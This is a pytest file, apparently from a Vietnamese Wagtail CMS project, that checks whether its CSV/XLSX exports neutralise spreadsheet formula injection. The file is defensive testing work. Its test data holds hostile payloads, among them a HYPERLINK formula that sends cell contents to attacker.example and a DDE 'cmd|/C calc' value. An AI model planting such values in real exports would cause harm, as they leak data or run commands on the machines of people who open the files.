"""Issue 11 hole 7: no export writes a cell a spreadsheet program would run as a formula.

Enumerates every admin URL whose view is a Wagtail spreadsheet export (site history, workflow
reports, aging pages, locked pages, every listing with CSV/XLSX…) plus the project's own exports
(public Dublin Core CSV, every period report of sites/reports.py), with a page and an agency whose
names are formulas, and checks every cell of every file."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, resolve
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from cms.models import StandardPage
from sites.exports import FORMULA_TRIGGERS, safe_cell
from sites.reports import PeriodReportView
from tests.conftest import login_admin

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")'
EVIL_VALUES = (EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1")


def test_the_helper_neutralises_each_trigger_and_leaves_the_rest():
    for value in EVIL_VALUES:
        assert safe_cell(value) == "'" + value
    for value in ("Quyết định 68/2026/QĐ-UBND", "", 5, -5, None, 2.5, "a=b"):
        assert safe_cell(value) == value


def spreadsheet_export_routes(base: type = SpreadsheetExportMixin) -> list[str]:
    """Every admin route (without arguments) whose view is a ``base``: by default Wagtail's exports."""
    routes: list[str] = []

    def walk(patterns, prefix: str) -> None:
        for entry in patterns:
            if isinstance(entry, URLResolver):
                walk(entry.url_patterns, prefix + str(entry.pattern))
            elif isinstance(entry, URLPattern):
                view_class = getattr(entry.callback, "view_class", None)
                route = prefix + str(entry.pattern)
                if view_class and issubclass(view_class, base) and "<" not in route:
                    routes.append("/" + route.lstrip("^").rstrip("$"))

    walk(get_resolver().url_patterns, "")
    return sorted(set(routes))


def assert_no_formula_cells(content: bytes, export: str, where: str) -> list[str]:
    cells: list[str] = []
    if export == "csv":
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
            cells.extend(row)
    else:
        from openpyxl import load_workbook

        workbook = load_workbook(io.BytesIO(content))
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"{where}: live formula {cell.value!r}"
                    if isinstance(cell.value, str):
                        cells.append(cell.value)
    for cell in cells:
        assert not cell.startswith(FORMULA_TRIGGERS), f"{where}: {cell!r}"
    return cells


@pytest.fixture
def evil_content(portal, make_agency, superuser):
    home = portal.site.root_page
    page = StandardPage(title=EVIL, slug="tin-doc")
    home.add_child(instance=page)
    page.save_revision(user=superuser, log_action=True).publish(user=superuser)
    draft = StandardPage(title="@SUM(1+1)", slug="ban-nhap", live=False)
    home.add_child(instance=draft)
    revision = draft.save_revision(user=superuser, log_action=True)
    workflow = draft.get_workflow()
    if workflow is not None:
        workflow.start(draft, superuser)
    make_agency("=1+1 Phường", "phuongcongthuc")
    return page, revision


def test_every_wagtail_spreadsheet_export_neutralises_formulas(client, superuser, evil_content):
    login_admin(client, superuser)
    routes = spreadsheet_export_routes()
    assert {"/admin/reports/site-history/", "/admin/reports/workflow/", "/admin/reports/aging-pages/"} <= set(
        routes
    )
    seen_evil = False
    for route in routes:
        for export in ("csv", "xlsx"):
            response = client.get(route, {"export": export}, HTTP_HOST="camau.localhost")
            if response.status_code != 200 or "html" in response.get("Content-Type", ""):
                continue  # not exportable (no list_export) or not for this user
            content = b"".join(response.streaming_content) if response.streaming else response.content
            cells = assert_no_formula_cells(content, export, f"{route}?export={export}")
            seen_evil |= "'" + EVIL in cells
    assert seen_evil, "the page titled as a formula appears, neutralised, in at least one export"


def test_public_metadata_csv_neutralises_formulas(evil_content):
    response = Client().get("/metadata.json", {"format": "csv"}, HTTP_HOST="camau.localhost")
    assert response.status_code == 200
    cells = assert_no_formula_cells(response.content, "csv", "metadata.csv")
    assert "'" + EVIL in cells


def test_every_period_report_exports_safely_and_refuses_an_unreadable_period(client, superuser, evil_content):
    """The project's own reports (sites/reports.py): each CSV/XLSX is formula-safe, and a period that
    cannot be read answers 400 with the reason and no figures."""
    login_admin(client, superuser)
    routes = spreadsheet_export_routes(PeriodReportView)
    assert {"/admin/moderation/reports/", "/admin/interaction/reports/", "/admin/operations/visits/"} <= set(
        routes
    )
    for route in routes:
        param = resolve(route).func.view_class.period_param
        refused = client.get(route, {param: "2026-13", "export": "csv"}, HTTP_HOST="camau.localhost")
        assert refused.status_code == 400 and "text/html" in refused["Content-Type"], route
        assert 'role="alert"' in refused.content.decode() and "13" in refused.content.decode(), route
        for export in ("csv", "xlsx"):
            response = client.get(route, {"export": export}, HTTP_HOST="camau.localhost")
            assert response.status_code == 200, f"{route}?export={export}"
            assert response["Content-Disposition"].endswith(f'.{export}"')
            cells = assert_no_formula_cells(response.content, export, f"{route}?export={export}")
            if route != "/admin/interaction/reports/":  # lists agencies with questions only
                assert "'=1+1 Phường" in cells, f"{route}?export={export}"
